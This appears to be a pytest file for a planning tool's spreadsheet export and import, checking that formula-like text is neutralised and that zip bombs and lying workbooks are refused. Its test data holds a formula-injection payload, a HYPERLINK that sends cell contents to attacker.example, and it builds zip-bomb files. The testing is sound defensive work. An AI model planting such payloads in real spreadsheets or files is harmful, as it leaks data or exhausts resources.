"""Spreadsheet outputs and `clearplan import` with untrusted data (issue 12, defects 6, 8, 11, 12):
text never becomes a formula, an exported and imported plan changes no byte, a hostile file is
refused quickly with a clear message, --apply writes all files or none, and the same data gives
the same workbook bytes."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from clearplan.cli import cli
from clearplan.editing import yaml_edit
from clearplan.outputs.cells import csv_original, csv_text
from clearplan.checks.check import check_plan
from clearplan.outputs.open_data import write_table, write_whole_plan
from clearplan.site.render import PlanView
from clearplan.editing.spreadsheet import MAX_PROBLEMS_SHOWN, MAX_ROWS
from clearplan.site.columns import columns
from clearplan.site.tables import Table, Tables
from editing_support import copy_data

WS2 = "workstreams/02-joint-commissioning.yaml"
WS0 = "workstreams/00-partnership-board.yaml"
FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+44 20 8547 5000", "-2+3", "@SUM(1,1)", "\tTabbed text", "=1+1", "#N/A"]


def snapshot(data: Path) -> dict[str, bytes]:
    return {p.relative_to(data).as_posix(): p.read_bytes() for p in sorted(data.rglob("*")) if p.is_file()}


def run(capsys, *argv) -> tuple[int, list[str], list[str]]:
    code = cli.main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out.splitlines(), captured.err.splitlines()


@pytest.fixture
def project(tmp_path, monkeypatch):
    copy_data(tmp_path)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def plant_formulas(data: Path) -> None:
    """Texts a spreadsheet would run, in an activity's text and lead, a measure's name and a risk's actions."""
    path = data / WS2
    document = yaml_edit.load(path)
    first, second = document["activity_groups"][0]["activities"][:2]
    first["text"], first["lead"] = "=1+1 is how we count partners", FORMULAS[0]
    second["lead"] = "+44 20 8547 5000"
    document["measures"][0]["name"] = "@Families who say the plan helped"
    document["risks"][0]["actions"][0] = "-2+3 extra staff"
    path.write_text(yaml_edit.dump(document), encoding="utf-8")
    assert check_plan(data).problems.errors == []


# --- Defect 6: formula injection ------------------------------------------------------------


@pytest.mark.parametrize("text", [*FORMULAS, "'=1+1", "''=1+1", "'''-x", "'plain", "'", "plain", "", "-19.25", "+5", "'-1", "\rx"])
def test_csv_neutralising_is_undone_exactly(text):
    written = csv_text(text)
    assert csv_original(written) == text
    if text and text[0] in "=+-@\t\r" and not re.fullmatch(r"[+-]?[0-9.]+", text):
        assert written == "'" + text


def test_a_plain_number_is_left_as_it_is_in_csv():
    assert [csv_text(t) for t in ("-19.25", "+5", "12")] == ["-19.25", "+5", "12"]


def test_csv_download_cells_start_with_an_apostrophe_before_a_formula(tmp_path):
    table = Table("t", "Test", columns("Text", "Amount"), page="test")
    for text in FORMULAS:
        table.add(None, text, None)
    from decimal import Decimal

    table.add(None, "ordinary", Decimal("-19.25"))
    write_table(table, tmp_path)
    rows = list(csv.reader(io.StringIO((tmp_path / "data/test/t.csv").read_text(encoding="utf-8-sig"))))
    assert [r[0] for r in rows[1:-1]] == ["'" + t for t in FORMULAS[:-1]] + ["#N/A"]
    assert rows[-1] == ["ordinary", "-19.25"]


def test_csv_column_names_are_neutralised_too(tmp_path):
    # The dashboard's risk table names a column after each risk level: plan text, found by the fuzz test.
    table = Table("t", "Test", columns("Workstream", *FORMULAS[:2]), page="test")
    table.add(None, "A", 1, 2)
    write_table(table, tmp_path)
    header = next(csv.reader(io.StringIO((tmp_path / "data/test/t.csv").read_text(encoding="utf-8-sig"))))
    assert header == ["Workstream", *("'" + t for t in FORMULAS[:2])]
    assert json.loads((tmp_path / "data/test/t.json").read_text(encoding="utf-8"))["columns"] == ["Workstream", *FORMULAS[:2]]


def assert_text_cells(path: Path, sheet: str, expected: list[str]) -> None:
    """Every expected text is in a typed text cell, exactly (whichever way openpyxl reads the file)."""
    for read_only in (False, True):
        book = openpyxl.load_workbook(path, read_only=read_only)
        cells = {c.value: c.data_type for row in book[sheet].iter_rows() for c in row if isinstance(c.value, str)}
        assert {t: cells.get(t) for t in expected} == {t: "s" for t in expected}
        book.close()
    names = [n for n in zipfile.ZipFile(path).namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in zipfile.ZipFile(path).read(n) or b"<f " in zipfile.ZipFile(path).read(n) for n in names)


def test_plan_xlsx_holds_formula_like_text_as_text(project):
    plant_formulas(project / "data")
    loaded = check_plan(project / "data")
    view = PlanView(loaded.data, loaded.files)
    [_, _, xlsx] = write_whole_plan(project / "site", Tables(view).whole_plan(), loaded.data)
    assert_text_cells(xlsx, "Activities", [FORMULAS[0], "+44 20 8547 5000", "=1+1 is how we count partners"])
    assert_text_cells(xlsx, "Measures", ["@Families who say the plan helped"])


def test_export_holds_formula_like_text_as_text_and_an_unchanged_import_changes_no_byte(project, capsys):
    plant_formulas(project / "data")
    before = snapshot(project / "data")
    assert run(capsys, "export", "xlsx", "plan.xlsx")[0] == 0
    assert_text_cells(project / "plan.xlsx", "Activities", [FORMULAS[0], "+44 20 8547 5000", "=1+1 is how we count partners"])
    assert_text_cells(project / "plan.xlsx", "Risks", [])
    risks = openpyxl.load_workbook(project / "plan.xlsx")["Risks"]
    assert any(str(c.value).startswith("-2+3 extra staff\n") and c.data_type == "s" for row in risks.iter_rows() for c in row)
    assert run(capsys, "import", "plan.xlsx", "--apply") == (0, ["No changes: plan.xlsx matches the data."], [])
    assert snapshot(project / "data") == before


def test_a_formula_typed_into_the_workbook_is_refused_not_read_as_blank(project, capsys):
    assert run(capsys, "export", "xlsx", "plan.xlsx")[0] == 0
    book = openpyxl.load_workbook(project / "plan.xlsx")
    book["Activities"]["E2"] = "=A1"  # a formula as an officer would type it: openpyxl stores no value for it
    book.save(project / "formula.xlsx")
    before = snapshot(project / "data")
    code, out, err = run(capsys, "import", "formula.xlsx", "--apply")
    assert (code, out) == (1, [])
    assert err[0].startswith("Activities, row 2, column E: this cell is a formula; import reads typed values only")
    assert snapshot(project / "data") == before


def test_a_csv_import_takes_off_the_neutralising_apostrophe(project, capsys):
    assert run(capsys, "export", "xlsx", "plan.xlsx")[0] == 0
    sheet = openpyxl.load_workbook(project / "plan.xlsx")["Activities"]
    rows = [["" if v is None else v for v in r] for r in sheet.iter_rows(values_only=True)]
    rows[1][4] = csv_text("=Head of Service")
    with (project / "activities.csv").open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    code, out, _ = run(capsys, "import", "activities.csv", "--apply")
    assert code == 0 and out[0].endswith("lead changes from CEO, RBK to =Head of Service"), out
    assert check_plan(project / "data").data.workstreams[0].activity_groups[0].activities[0].lead == "=Head of Service"


# --- Defect 8: limits on what import reads ---------------------------------------------------


def rewrite_part(source: Path, target: Path, part: str, change) -> None:
    """A copy of an .xlsx with one part's bytes changed."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            data = old.read(entry)
            new.writestr(entry, change(data) if entry.filename == part else data)


ACTIVITIES_PART = "xl/worksheets/sheet1.xml"


def test_a_huge_stated_dimension_is_not_trusted(project, capsys):
    assert run(capsys, "export", "xlsx", "plan.xlsx")[0] == 0
    rewrite_part(
        project / "plan.xlsx",
        project / "huge.xlsx",
        ACTIVITIES_PART,
        lambda xml: re.sub(rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:XFD1048576"/>', xml),
    )
    assert (project / "huge.xlsx").stat().st_size < 40_000
    started = time.monotonic()
    assert run(capsys, "import", "huge.xlsx") == (0, ["No changes: huge.xlsx matches the data."], [])
    assert time.monotonic() - started < 60  # the old reader filled 16384 × 1048576 cells, then MemoryError


def test_an_edit_below_a_too_small_stated_dimension_is_read(project, capsys):
    assert run(capsys, "export", "xlsx", "plan.xlsx")[0] == 0
    book = openpyxl.load_workbook(project / "plan.xlsx")
    row = next(r for r in book["Activities"].iter_rows(min_row=2) if r[2].value == "ws2-03")
    row[5].value = "in_progress"
    book.save(project / "edited.xlsx")
    rewrite_part(
        project / "edited.xlsx",
        project / "small.xlsx",
        ACTIVITIES_PART,
        lambda xml: re.sub(rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:G2"/>', xml),
    )
    code, out, _ = run(capsys, "import", "small.xlsx")
    assert code == 0 and out[0] == "Activities row 24, activity ws2-03: status changes from Planned to In progress"


def test_a_file_over_the_size_limit_is_refused(project, capsys):
    with (project / "big.xlsx").open("wb") as handle:
        handle.truncate(21 * 1024 * 1024)  # sparse: no 21 MB written
    code, _, err = run(capsys, "import", "big.xlsx")
    assert code == 1 and err[0] == "big.xlsx, row 1: the file is 21 MB; clearplan import reads files of at most 20 MB"


def test_a_zip_bomb_is_refused_before_anything_is_unpacked(project, capsys):
    assert run(capsys, "export", "xlsx", "plan.xlsx")[0] == 0
    padding = b" " * (30 * 1024 * 1024)  # 30 MB of spaces packs to about 30 KB
    rewrite_part(project / "plan.xlsx", project / "bomb.xlsx", ACTIVITIES_PART, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + padding, 1))
    assert (project / "bomb.xlsx").stat().st_size < 200_000
    code, _, err = run(capsys, "import", "bomb.xlsx")
    assert code == 1 and re.fullmatch(
        r"bomb\.xlsx, row 1: its part xl/worksheets/sheet1\.xml is packed [0-9,]+ times over, which no "
        r"spreadsheet program does \(at most 100\); refused as a possible zip bomb",
        err[0],
    ), err


def test_a_part_larger_than_its_zip_directory_says_is_not_unpacked_past_that_size(project, capsys):
    assert run(capsys, "export", "xlsx", "plan.xlsx")[0] == 0
    padding = b" " * (30 * 1024 * 1024)
    rewrite_part(project / "plan.xlsx", project / "liar.xlsx", ACTIVITIES_PART, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + padding, 1))
    data = bytearray((project / "liar.xlsx").read_bytes())
    entry = data.index(b"PK\x01\x02")  # the zip directory's first entry, then the sheet's
    while not data[entry + 46 :].startswith(ACTIVITIES_PART.encode()):
        entry = data.index(b"PK\x01\x02", entry + 4)
    data[entry + 24 : entry + 28] = (50_000).to_bytes(4, "little")  # claims 50 KB unpacked
    (project / "liar.xlsx").write_bytes(bytes(data))
    started = time.monotonic()
    code, _, err = run(capsys, "import", "liar.xlsx")
    assert code == 1 and err[0] == "liar.xlsx, row 1: cannot read this as an .xlsx workbook (BadZipFile); save it as .xlsx or .csv", err
    assert time.monotonic() - started < 30


def test_a_workbook_that_unpacks_too_large_is_refused(project, capsys):
    with zipfile.ZipFile(project / "large.xlsx", "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
    # Declared sizes are what a reader trusts; a central directory that claims 2 GB is refused unread.
    data = bytearray((project / "large.xlsx").read_bytes())
    directory = data.rindex(b"PK\x01\x02")
    data[directory + 24 : directory + 28] = (2 * 1024**3).to_bytes(4, "little")
    (project / "large.xlsx").write_bytes(bytes(data))
    code, _, err = run(capsys, "import", "large.xlsx")
    assert code == 1 and err[0] == (
        "large.xlsx, row 1: the workbook unpacks to 2,048 MB; clearplan import reads workbooks that unpack to at most 100 MB"
    )


def test_rows_after_the_row_limit_are_refused(project, capsys):
    assert run(capsys, "export", "xlsx", "plan.xlsx")[0] == 0
    book = openpyxl.load_workbook(project / "plan.xlsx")
    book["Activities"].cell(row=MAX_ROWS + 5, column=1, value="partnership-board")
    book.save(project / "long.xlsx")
    code, _, err = run(capsys, "import", "long.xlsx")
    assert code == 1 and err[0] == (
        f"Activities, row {MAX_ROWS + 1}: the sheet has values after row {MAX_ROWS:,}; clearplan import "
        f"reads at most {MAX_ROWS:,} rows a sheet (split the changes over several files)"
    )


def test_only_the_first_problems_are_printed_then_how_many_more(project, capsys):
    header = "Workstream,Group,ID,Activity,Lead,Status,Due\n"
    rows = "".join(f"nowhere,,x-{n},Text.,,planned,\n" for n in range(200))
    (project / "bad.csv").write_text(header + rows, encoding="utf-8")
    code, _, err = run(capsys, "import", "bad.csv")
    assert code == 1 and len(err) == MAX_PROBLEMS_SHOWN + 2
    assert err[0].startswith("Activities, row 2, column A (Workstream): unknown workstream 'nowhere'")
    assert err[-2:] == [f"... and {200 - MAX_PROBLEMS_SHOWN} more problems", "200 problems in bad.csv; nothing was changed"]


# --- Defect 11: --apply writes every file or none --------------------------------------------


def two_file_edit(project: Path) -> Path:
    book = openpyxl.load_workbook(project / "plan.xlsx")
    rows = {r[2].value: r for r in book["Activities"].iter_rows(min_row=2)}
    rows["pb-01"][5].value = "done"
    rows["ws2-03"][5].value = "in_progress"
    book.save(project / "two.xlsx")
    return project / "two.xlsx"


def test_a_failed_write_of_the_second_file_leaves_the_first_unchanged(project, capsys, monkeypatch):
    assert run(capsys, "export", "xlsx", "plan.xlsx")[0] == 0
    two_file_edit(project)
    before = snapshot(project / "data")
    real_replace, calls = os.replace, []

    def replace_failing_second(source, target):
        calls.append(target)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        return real_replace(source, target)

    monkeypatch.setattr(yaml_edit.os, "replace", replace_failing_second)
    code, out, err = run(capsys, "import", "two.xlsx", "--apply")
    monkeypatch.undo()
    assert code == 2
    assert err == [f"clearplan: cannot write {Path('data') / WS2}: No space left on device; no file was changed"]
    assert len(calls) == 3  # the first file replaced, the second failing, the first put back
    assert snapshot(project / "data") == before  # no temporary file left either


def test_a_failure_while_preparing_the_changes_is_a_message_not_a_traceback(project, capsys, monkeypatch):
    import shutil

    assert run(capsys, "export", "xlsx", "plan.xlsx")[0] == 0
    two_file_edit(project)
    before = snapshot(project / "data")

    def copy_failing(source, target, **options):
        raise OSError(28, "No space left on device", str(target))

    monkeypatch.setattr(shutil, "copytree", copy_failing)
    code, _, err = run(capsys, "import", "two.xlsx", "--apply")
    monkeypatch.undo()
    assert code == 2 and len(err) == 1
    assert re.fullmatch(r"clearplan: cannot prepare the changes: \S+/data: No space left on device; no file was changed", err[0]), err
    assert snapshot(project / "data") == before


def test_apply_of_changes_in_two_files_writes_both(project, capsys):
    assert run(capsys, "export", "xlsx", "plan.xlsx")[0] == 0
    two_file_edit(project)
    before = snapshot(project / "data")
    code, out, _ = run(capsys, "import", "two.xlsx", "--apply")
    assert code == 0 and out[-1].endswith(": written.")
    after = snapshot(project / "data")
    assert {k for k in after if after[k] != before[k]} == {WS0, WS2}


# --- Defect 12: the same data gives the same workbook bytes ----------------------------------


def test_workbooks_are_byte_identical_for_identical_data(project, capsys, kingston):
    view = PlanView(kingston.data, kingston.files)
    write_whole_plan(project / "first", Tables(view).whole_plan(), kingston.data)
    assert run(capsys, "export", "xlsx", "first.xlsx")[0] == 0
    time.sleep(2.1)  # zip entry times have a two-second step: a later clock must not show
    write_whole_plan(project / "second", Tables(view).whole_plan(), kingston.data)
    assert run(capsys, "export", "xlsx", "second.xlsx")[0] == 0
    assert (project / "first/data/plan.xlsx").read_bytes() == (project / "second/data/plan.xlsx").read_bytes()
    assert (project / "first.xlsx").read_bytes() == (project / "second.xlsx").read_bytes()
    properties = openpyxl.load_workbook(project / "first.xlsx").properties
    assert properties.created == properties.modified and properties.created.date().isoformat().startswith(kingston.data.plan.version.date)


def test_a_quote_in_a_risk_level_name_stays_inside_the_drop_down_list(kingston, tmp_path):
    import copy

    from clearplan.editing.spreadsheet import export_xlsx

    data = copy.deepcopy(kingston.data)
    data.plan.risk_scheme.levels[0].name = 'Low", "=1+1'
    export_xlsx(data, tmp_path / "plan.xlsx")
    rules = openpyxl.load_workbook(tmp_path / "plan.xlsx")["Risks"].data_validations.dataValidation
    assert [r.formula1 for r in rules][-1] == '"Low"", ""=1+1,Moderate,High"'  # one string literal, quotes doubled
